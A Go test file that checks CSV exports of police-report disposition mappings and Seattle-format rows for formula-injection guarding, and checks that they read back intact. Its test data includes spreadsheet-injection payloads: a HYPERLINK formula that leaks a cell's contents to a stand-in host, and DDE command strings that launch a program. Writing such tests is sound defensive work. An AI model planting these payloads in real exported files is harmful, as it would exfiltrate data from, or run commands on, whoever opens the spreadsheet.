package importer

import (
	"bytes"
	"encoding/csv"
	"maps"
	"strings"
	"testing"

	"citdesk"
)

// formulaTexts start like a spreadsheet formula; "-5 units" and "'plain"
// check that a leading minus in text and a quote of the text's own survive.
var formulaTexts = []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-5 units", "@SUM(A1)", "\tTabbed", "'plain"}

// TestDispositionMapFileIsSafeInSpreadsheets: no cell of the mapping
// download starts like a formula, and the file reads back to the same
// mapping.
func TestDispositionMapFileIsSafeInSpreadsheets(t *testing.T) {
	m := map[string]string{"Taken to jail": "arrest"}
	for _, s := range formulaTexts {
		m[s] = ""
	}
	var buf bytes.Buffer
	if err := WriteDispositionMap(&buf, m); err != nil {
		t.Fatal(err)
	}
	assertNoFormulaCells(t, buf.String())
	back, err := LoadDispositionMap(strings.NewReader(buf.String()))
	if err != nil {
		t.Fatalf("read back: %v\n%s", err, buf.String())
	}
	if !maps.Equal(back, m) {
		t.Errorf("read back %q, want %q", back, m)
	}
}

// TestSeattleExportIsSafeInSpreadsheets: an agency's own disposition word
// and beat that start like formulas are written guarded and read back as
// they were.
func TestSeattleExportIsSafeInSpreadsheets(t *testing.T) {
	mapping := map[string]string{"=cmd|' /C calc'!A0": "arrest"}
	rows := []SeattleExportRow{{TemplateID: "a-1", Beat: "@B1", Precinct: "-North", Dispositions: []citdesk.Disposition{citdesk.DispArrest}}}
	var buf bytes.Buffer
	if err := WriteSeattle(&buf, rows, mapping); err != nil {
		t.Fatal(err)
	}
	assertNoFormulaCells(t, buf.String())
	reps, rowErrs, err := ParseSeattle(&buf, mapping)
	if err != nil || len(rowErrs) != 0 || len(reps) != 1 {
		t.Fatalf("parse: %d reports, %v, %v", len(reps), rowErrs, err)
	}
	if r := reps[0]; r.Beat != "@B1" || r.Precinct != "-North" || len(r.Dispositions) != 1 || r.Dispositions[0] != "arrest" {
		t.Errorf("read back %+v", r)
	}
}

func assertNoFormulaCells(t *testing.T, file string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range recs {
		for _, cell := range rec {
			if cell != "-" && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d: cell %q starts like a formula", i+1, cell)
			}
		}
	}
}
